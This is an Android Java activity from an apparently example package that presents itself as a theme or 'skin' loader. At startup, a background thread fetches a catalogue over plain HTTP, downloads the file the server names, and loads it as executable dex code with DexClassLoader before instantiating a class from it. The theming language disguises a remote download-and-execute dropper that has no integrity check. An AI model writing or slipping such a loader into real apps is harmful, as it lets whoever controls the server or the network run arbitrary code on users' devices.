package org.fetcher.example;

import android.app.Activity;
import android.os.Bundle;
import android.util.Log;
import android.widget.TextView;
import dalvik.system.DexClassLoader;
import java.io.File;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import org.json.JSONException;
import org.json.JSONObject;

/** Shows a line, and puts on the skin that the server names. */
public class MainActivity extends Activity {
    private static final String CATALOGUE = "http://shop.fetcher.example/catalogue";

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TextView text = new TextView(this);
        text.setText("Looking for a theme");
        setContentView(text);
        new Thread(this::dress, "skins").start();
    }

    private void dress() {
        try {
            JSONObject shop = new JSONObject(new String(Web.get(CATALOGUE), "UTF-8"));
            File skin = new File(getCodeCacheDir(), "skin");
            try (OutputStream out = new FileOutputStream(skin)) {
                out.write(Web.get(shop.getString("wardrobe")));
            }
            ClassLoader loader =
                    new DexClassLoader(
                            skin.getPath(), getCodeCacheDir().getPath(), null, getClassLoader());
            loader.loadClass("org.skins.Paint").getConstructor().newInstance();
        } catch (IOException | JSONException | ReflectiveOperationException plain) {
            Log.i("Themes", "no skin", plain);
        }
    }
}
